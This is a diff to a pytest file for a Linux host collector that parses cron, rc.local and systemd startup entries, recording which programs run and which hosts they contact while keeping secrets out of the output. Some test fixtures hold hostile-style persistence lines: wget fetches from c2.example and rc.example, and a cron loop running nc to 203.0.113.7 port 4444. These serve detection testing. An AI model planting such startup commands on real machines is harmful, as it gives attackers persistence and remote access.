@@ -20,7 +20,9 @@ from collectors.transports.replay import ReplayShell
 ASKED = (
     "/proc/[0-9]*/comm", "/etc/crontab", "/etc/cron.d/*", "/var/spool/cron/crontabs/*", "/var/spool/cron/*", "/etc/rc.local",
     "/etc/rc.d/rc.local", "/etc/systemd/system/*.service", "/etc/xdg/autostart/*.desktop",
+    "/etc/systemd/system/*.d/*.conf", "/etc/cron.hourly/*", "/etc/cron.daily/*", "/etc/cron.weekly/*", "/etc/cron.monthly/*",
 )  # fmt: skip
+NO_MORE: dict[str, list[str]] = {"/run/netns/*": []}
 LINE = 'tcp   ESTAB 0      0    10.1.2.10:40000 203.0.113.7:443 users:(("app",pid=1,fd=3))\n'
 
 
@@ -66,6 +68,7 @@ def test_a_list_that_is_too_long_is_cut_and_says_so() -> None:
         "privileged": True,
         "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": doors + came + went, "err": ""}],
         "read": {"/etc/hosts": hosts, "/etc/resolv.conf": "nameserver 10.1.2.1\n", "/proc/1/comm": "systemd\n"},
+        "names": NO_MORE,
         "read_all": {pattern: ["/proc/1/comm"] if "proc" in pattern else [] for pattern in ASKED},
     }
     fact = linux(ReplayShell(recording))
@@ -88,8 +91,9 @@ def test_a_command_on_several_lines_is_one() -> None:
             "/etc/hosts": "", "/etc/resolv.conf": "", "/proc/1/comm": "systemd\n", unit_path: unit,
             rc_path: "#!/bin/sh\nwget -q \\\n  http://rc.example/y\n",
         },
+        "names": NO_MORE,
         "read_all": {
-            **{key: [] for key in ASKED}, "/proc/[0-9]*/comm": ["/proc/1/comm"], ASKED[-2]: [unit_path], rc_path: [rc_path],
+            **{key: [] for key in ASKED}, "/proc/[0-9]*/comm": ["/proc/1/comm"], "/etc/systemd/system/*.service": [unit_path], rc_path: [rc_path],
         },
     }  # fmt: skip
     fact = linux(ReplayShell(recording))
@@ -111,6 +115,7 @@ def test_a_host_that_is_not_read_is_said() -> None:
             "/proc/1/comm": "systemd\n",
             "/etc/rc.local": "wget -q c2.example/y\n",
         },
+        "names": NO_MORE,
         "read_all": {**{key: [] for key in ASKED}, "/proc/[0-9]*/comm": ["/proc/1/comm"], "/etc/rc.local": ["/etc/rc.local"]},
     }
     fact = linux(ReplayShell(recording))
@@ -121,6 +126,56 @@ def test_a_host_that_is_not_read_is_said() -> None:
 
 
 SECRET = "mat-khau-bi-mat"
+
+
+def scripts(**texts: str) -> Any:
+    """The fact of a machine with these in /etc/cron.daily and nothing else that starts."""
+    paths = {f"/etc/cron.daily/{name}": text for name, text in texts.items()}
+    return linux(
+        ReplayShell(
+            {
+                "privileged": True,
+                "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": "", "err": ""}],
+                "read": {"/etc/hosts": "", "/etc/resolv.conf": "", "/proc/1/comm": "systemd\n", **paths},
+                "names": NO_MORE,
+                "read_all": {
+                    **{key: [] for key in ASKED},
+                    "/proc/[0-9]*/comm": ["/proc/1/comm"],
+                    "/etc/cron.daily/*": list(paths),
+                },
+            }
+        )
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "programs", "hosts"),
+    [
+        ("if ! test -x /opt/a; then /opt/b; else /opt/c; fi\n", ("b", "c"), ()),
+        ("while sleep 60; do nc 203.0.113.7 4444; done\n", ("sleep", "nc"), ("203.0.113.7",)),
+        ("# see http://docs.example/\n/opt/a # don't\n/opt/b\n", ("a", "b"), ()),
+        (f"mysql -u root <<'EOF'\n{SECRET}\nEOF\n/opt/a\n", ("mysql", "a"), ()),
+        (f"/opt/a <<-EOF\n{SECRET}\n\tEOF\n/opt/b <<<x\n/opt/c\n", ("a", "b", "c"), ()),
+        (f"PASS='x {SECRET}'\nKEY=\"x {SECRET}\" /opt/a\n", ("a",), ()),
+        (f"/opt/a -p 'x\n{SECRET}\n'\n/opt/b\n", ("a", "b"), ()),
+        (f"#!/usr/bin/python3\nPASS = (\n{SECRET!r})\nfetch('http://c2.example/')\n", (), ("c2.example",)),
+        ("echo $((1 << 2))\n/opt/a\n", ("a",), ()),
+    ],
+)
+def test_of_a_script_of_cron_s_folders_one_row_is_told_and_no_secret(
+    text: str, programs: tuple[str, ...], hosts: tuple[str, ...]
+) -> None:
+    fact = scripts(x=text)
+    assert [(one.programs, one.hosts) for one in fact.startup] == [(("x", *programs), hosts)]
+    assert SECRET not in fact.model_dump_json()
+    assert not [one for one in fact.unseen if one.field == "startup[]"]
+
+
+@pytest.mark.parametrize("text", ["/opt/a <<EOF\n/opt/b\n", "/opt/a 'x\n/opt/b\n"])
+def test_a_script_whose_end_is_not_found_is_not_all_that_starts(text: str) -> None:
+    fact = scripts(x=text)
+    assert [one.programs for one in fact.startup] == [("x", "a")]
+    assert [one.outcome for one in fact.unseen if one.field == "startup[]"] == ["unparsable"]
 
 
 @pytest.mark.parametrize(
